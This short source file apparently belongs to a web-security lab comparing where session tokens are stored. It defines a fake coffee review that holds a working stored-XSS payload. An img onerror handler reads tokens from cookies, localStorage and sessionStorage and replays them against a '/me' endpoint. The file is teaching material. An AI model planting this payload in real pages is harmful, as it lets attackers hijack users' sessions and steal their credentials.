// VULNERABLE: the review of an attacker. A picture that cannot load runs the script in its
// attribute.

/**
 * Reads the tokens that scripts can read, tries each of them without this browser's cookies, and
 * sends requests with the cookies that it cannot read.
 */
export const REVIEW = `Lovely coffee! <img src="x" alt="" onerror="(async () => {
  const cookie = (name) => document.cookie.match(new RegExp(name + '=([^;]+)'))?.[1] ?? ''
  const read = {
    'HttpOnly cookie': cookie('lab.http-only'),
    'readable cookie': cookie('lab.readable'),
    'localStorage': localStorage.getItem('lab.token') ?? '',
    'sessionStorage': sessionStorage.getItem('lab.token') ?? '',
  }
  for (const [place, token] of Object.entries(read)) {
    const authorization = 'Bearer ' + token
    const elsewhere = token ? await fetch(home + '/me', { credentials: 'omit', headers: { authorization } }) : null
    const name = { 'HttpOnly cookie': 'lab.http-only', 'readable cookie': 'lab.readable' }[place]
    const here = name ? await fetch(home + '/me?cookie=' + name) : elsewhere
    report(place, token, elsewhere, here)
  }
})()">`
